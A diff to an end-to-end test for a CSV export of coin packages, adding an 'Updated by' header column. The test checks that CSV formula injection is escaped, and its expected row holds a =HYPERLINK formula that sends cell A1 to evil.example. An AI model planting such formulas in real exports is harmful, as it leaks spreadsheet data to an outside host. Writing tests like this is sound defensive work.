@@ -72,7 +72,7 @@ test('the exported CSV holds the rows that are shown, and no formula that a spre
   const file = await download
   expect(file.suggestedFilename()).toMatch(/^packages-\d{4}-\d\d-\d\d\.csv$/)
   const [head, row, ...rest] = (await readFile(await file.path(), 'utf8')).split('\r\n')
-  expect(head).toBe('\ufeffName,Coins,Gems,Price,Currency,Per coin,Status,Updated,Created,ID')
+  expect(head).toBe('\ufeffName,Coins,Gems,Price,Currency,Per coin,Status,Updated,Updated by,Created,ID')
   expect(row).toMatch(
     /^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Prize""\)",10,1,1\.5,USD,0\.15,Draft,/,
   )
